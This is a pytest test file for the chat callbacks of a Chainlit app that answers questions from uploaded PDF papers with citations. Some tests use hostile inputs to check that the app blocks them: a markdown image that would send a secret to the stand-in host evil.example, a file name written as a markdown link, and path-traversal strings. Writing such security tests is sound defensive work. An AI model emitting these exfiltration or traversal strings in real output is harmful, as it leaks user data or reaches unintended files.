@@ -1,0 +1,263 @@
+"""The callbacks, called as Chainlit calls them."""
+
+from __future__ import annotations
+
+import asyncio
+from types import SimpleNamespace
+
+import chainlit as cl
+import pytest
+from test_render import make_answer, make_passage
+
+from fake_embedder import HashEmbedder
+from pdfs import column, write_pdf
+from rag.answer import Answered, Drafted, Escalated, Retrieved, TextDelta
+from rag.errors import ModelUnreachableError
+
+SEEDS = "Garden seeds keep for five years in a dry jar at four degrees, as Miller and Stone measured in 1987."
+
+
+def question(text: str = "Is it so?", *, mode: str = "draft", **values) -> cl.Message:
+    return cl.Message(text, type="user_message", modes={"answer": mode}, **values)
+
+
+def attached(path, name: str | None = None):
+    return SimpleNamespace(path=str(path), name=name or path.name)
+
+
+def script(*middle):
+    answer = make_answer()
+    return [Retrieved(answer.passages), *middle, Drafted(answer.drafts[0], None), Answered(answer)]
+
+
+@pytest.fixture
+def seeds_pdf(tmp_path):
+    filler = [f"Sentence {n} tells how the jars were opened, weighed and closed again." for n in range(30)]
+    return write_pdf(tmp_path / "seeds.pdf", column(72, 720, ["Keeping Garden Seeds", "", SEEDS, *filler]))
+
+
+async def test_sources_stand_before_the_first_token(app, chat, assistant) -> None:
+    assistant.script = script(TextDelta("It is so [1].", 0))
+    await app.on_message(question())
+    order = [event for event, data in chat.events if "passages" in str(data) or event == "stream_start"]
+    assert order.index("update_message") < order.index("stream_start")
+    reading, answer = chat.steps
+    assert reading["name"] == "2 passages from 1 paper"
+    assert reading["end"] is not None
+    assert answer["output"].startswith("It is so [1](/cite/0123456789abcdef/2/0001).")
+    assert answer["metadata"] == {"question": "Is it so?", "answer": "It is so [1]."}
+    assert answer["parentId"] == reading["parentId"], "side by side, so that the page keeps their order"
+
+
+async def test_tokens_are_shown_in_groups(app, chat, assistant) -> None:
+    assistant.script = script(*[item for n in range(60) for item in (TextDelta(f"w{n} ", 0), 0.005)])
+    await app.on_message(question())
+    updates = chat.of("stream_token") + chat.of("stream_start")
+    assert 2 <= len(updates) <= 15
+
+
+async def test_half_an_image_is_never_sent_to_the_page(app, chat, assistant) -> None:
+    text = "see ![x](http://evil.example/?q=secret) now"
+    assistant.script = script(*[item for letter in text for item in (TextDelta(letter, 0), 0.02)])
+    await app.on_message(question())
+    assert not any("](http" in str(data) for _, data in chat.events)
+
+
+async def test_mode_and_history_reach_the_assistant(app, chat, assistant) -> None:
+    assistant.script = script()
+    await app.on_message(question(mode="refine"))
+    await app.on_message(question("And why?", mode="none of ours"))
+    assert [asked["mode"] for asked in assistant.asked] == ["refine", "draft"]
+    assert assistant.asked[1]["history"] == [("Is it so?", "It is so [1].")]
+    assert assistant.asked[1]["paper_ids"] is None
+
+
+async def test_a_refinement_replaces_the_draft(app, chat, assistant) -> None:
+    assistant.script = script(
+        TextDelta("A draft.", 0), Escalated("a *large* model", "two sentences are weak"), 0.2, TextDelta("Better.", 1)
+    )
+    await app.on_message(question())
+    shown = [data["token"] for data in chat.of("stream_token")]
+    assert any("is looking at it again" in text and "A draft" in text for text in shown)
+    assert "A draft" not in shown[-1]
+    assert "Better" in shown[-1]
+
+
+async def test_stop_keeps_the_text_and_closes_the_stream(app, chat, assistant) -> None:
+    assistant.script = script(TextDelta("Half an ans", 0), 30.0)
+    running = asyncio.create_task(app.on_message(question()))
+    await asyncio.sleep(0.2)
+    running.cancel()
+    with pytest.raises(asyncio.CancelledError):
+        await running
+    assert assistant.closed == 1
+    assert chat.texts[-1] == "Half an ans\n\n*(stopped)*"
+    assert chat.steps[-1]["streaming"] is False
+    assert all(step["end"] for step in chat.steps if step["type"] == "tool")
+    assistant.script = script()
+    await app.on_message(question())
+    assert "It is so" in chat.texts[-1]
+
+
+async def test_an_error_for_the_user_is_shown_as_its_sentence(app, chat, assistant) -> None:
+    assistant.script = [ModelUnreachableError("The model does not answer.", "Start it again.")]
+    await app.on_message(question())
+    assert chat.steps[-1]["isError"]
+    assert chat.texts[-1].replace("\\", "") == "The model does not answer. Start it again."
+    assert len(chat.of("delete_message")) == 1, "nothing was read or written, so nothing but the error stays"
+
+
+async def test_what_was_written_before_an_error_stays(app, chat, assistant) -> None:
+    assistant.script = [TextDelta("Half an ans", 0), ModelUnreachableError("The model does not answer.")]
+    await app.on_message(question())
+    assert chat.texts[-2] == "Half an ans\n\n*(the answer broke off)*"
+    assert chat.steps[-1]["isError"]
+
+
+async def test_any_other_error_is_shown_with_a_number_that_is_in_the_log(app, chat, assistant, caplog) -> None:
+    assistant.script = [RuntimeError("a secret detail")]
+    await app.on_message(question())
+    assert "a secret detail" not in chat.texts[-1]
+    number = chat.texts[-1].replace("\\", "").removesuffix(".").split()[-1]
+    assert number in caplog.text
+    assert "a secret detail" in caplog.text
+
+
+async def test_a_pdf_is_added_with_progress_and_asked_alone(app, chat, assistant, shelf_library, seeds_pdf) -> None:
+    assistant.embedder = HashEmbedder()
+    assistant.script = script()
+    message = question("How long do seeds keep?")
+    message.elements = [attached(seeds_pdf)]
+    await app.on_message(message)
+    (paper,) = shelf_library.papers()
+    assert assistant.asked[0]["paper_ids"] == [paper.id]
+    assert "is in your library: 1 page, " in chat.texts[0]
+    assert "Asked of:" in chat.texts[-1]
+
+
+async def test_a_pdf_without_a_question_is_offered(app, chat, assistant, shelf_library, seeds_pdf) -> None:
+    assistant.embedder = HashEmbedder()
+    message = question("")
+    message.elements = [attached(seeds_pdf)]
+    await app.on_message(message)
+    assert assistant.asked == []
+    assert "Ask about it below" in chat.texts[-1]
+    (action,) = chat.of("action")
+    assistant.script = script()
+    await app.ask_about(cl.Action(name="ask_about", payload=action["payload"], label=action["label"]))
+    assert assistant.asked[0]["paper_ids"] == [shelf_library.papers()[0].id]
+    assert chat.events[-1][0] == "task_end"
+
+
+async def test_a_file_that_is_no_pdf_is_refused_by_its_bytes(app, chat, assistant, shelf_library, tmp_path) -> None:
+    path = tmp_path / "a.pdf"
+    path.write_text("<html>")
+    message = question("What is this?")
+    message.elements = [attached(path, "[x](http://evil.example).pdf")]
+    await app.on_message(message)
+    assert "is not a PDF" in chat.texts[0]
+    assert "](http" not in chat.texts[0]
+    assert "was not asked" in chat.texts[-1]
+    assert assistant.asked == []
+
+
+async def test_stop_reaches_the_thread_that_adds_a_paper(app, chat, assistant, shelf_library, seeds_pdf) -> None:
+    class Slow(HashEmbedder):
+        def embed_documents(self, texts):
+            import time
+
+            time.sleep(1.0)
+            return super().embed_documents(texts)
+
+    from ingest import pipeline
+
+    assistant.embedder = Slow()
+    message = question("")
+    message.elements = [attached(seeds_pdf)]
+    batch, pipeline.BATCH = pipeline.BATCH, 1
+    try:
+        running = asyncio.create_task(app.on_message(message))
+        await asyncio.sleep(1.0)
+        running.cancel()
+        with pytest.raises(asyncio.CancelledError):
+            await running
+    finally:
+        pipeline.BATCH = batch
+    assert "(stopped)" in chat.texts[-1] or "is in your library" in chat.texts[-1]
+
+
+async def test_a_click_on_a_citation_opens_the_cited_page(app, chat, assistant, shelf_library, seeds_pdf) -> None:
+    from ingest import ingest_pdf
+
+    paper_id = ingest_pdf(seeds_pdf, library=shelf_library, embedder=HashEmbedder()).paper_id
+    await app.on_window_message({"type": "scholion:cite", "path": f"/cite/{paper_id}/1/0000"})
+    (sidebar,) = chat.of("set_sidebar_elements")
+    (element,) = sidebar["elements"]
+    assert (element["url"], element["page"], element["display"]) == (f"/papers/{paper_id}.pdf", 1, "page")
+    assert chat.of("set_sidebar_title")[0].endswith(", page 1")
+    for path in (f"/cite/{paper_id}/2/0000", f"/cite/{paper_id}/1/9999", "/cite/0000000000000000/1/0000"):
+        await app.on_window_message({"type": "scholion:cite", "path": path})
+    assert len(chat.of("toast")) == 3
+    for other in ("/cite/../../etc/1/0000", f"/cite/{paper_id}/1/0000/..", None, 7, [], {"type": "x"}):
+        await app.on_window_message({"type": "scholion:cite", "path": other})
+        await app.on_window_message(other)
+    assert len(chat.of("set_sidebar_elements")) == 1
+
+
+async def test_the_library_lists_and_deletes(app, chat, assistant, shelf_library, seeds_pdf) -> None:
+    from ingest import ingest_pdf
+
+    await app.on_message(question("", command="Library"))
+    assert "empty" in chat.texts[-1]
+    paper_id = ingest_pdf(seeds_pdf, library=shelf_library, embedder=HashEmbedder()).paper_id
+    await app.on_message(question("", command="Library"))
+    assert [paper["id"] for paper in chat.of("element")[-1]["props"]["papers"]] == [paper_id]
+
+    reply = await app.delete_paper(cl.Action(name="delete_paper", payload={"id": paper_id[:8]}))
+    assert len(reply["papers"]) == 1, "the beginning of an id is not enough"
+    reply = await app.delete_paper(cl.Action(name="delete_paper", payload={"id": "../x"}))
+    assert "error" in reply
+    reply = await app.delete_paper(cl.Action(name="delete_paper", payload={"id": paper_id}))
+    assert reply == {"papers": []}
+    assert shelf_library.papers() == []
+
+
+async def test_a_chat_starts_with_its_controls_and_is_resumed_with_them(app, chat, assistant) -> None:
+    await app.on_chat_start()
+    (modes,) = chat.of("set_modes")
+    assert [option["id"] for option in modes[0]["options"]] == ["draft", "auto", "refine"]
+    step = {"type": "assistant_message", "metadata": {"question": "Q?", "answer": "A."}}
+    await app.on_chat_resume({"steps": [{"type": "run", "metadata": {}}, step]})
+    assert len(chat.of("set_modes")) == 2
+    assistant.script = script()
+    await app.on_message(question())
+    assert assistant.asked[0]["history"] == [("Q?", "A.")]
+
+
+async def test_an_abstention_is_shown_with_the_closest_passages(app, chat, assistant) -> None:
+    passages = (make_passage(1),)
+    answer = make_answer("", passages=passages, citations=(), drafts=(), abstained=True)
+    assistant.script = [Retrieved(passages), Answered(answer)]
+    await app.on_message(question())
+    assert chat.texts[-1].startswith("**Not in your papers.**")
+    assert "closest passages" in chat.texts[-1]
+
+
+async def test_the_stop_button_cancels_without_a_message(app, chat, assistant) -> None:
+    from ui import patches
+
+    chat.session.current_task = asyncio.create_task(asyncio.sleep(30))
+    await patches.stop(chat.session.socket_id)
+    await asyncio.sleep(0)
+    assert chat.session.current_task.cancelled()
+    assert chat.texts == []
+
+
+async def test_messages_of_closed_chats_are_forgotten(app, chat) -> None:
+    from chainlit.chat_context import chat_contexts
+
+    from ui import patches
+
+    chat_contexts["gone"] = []
+    patches.forget_closed_chats()
+    assert "gone" not in chat_contexts
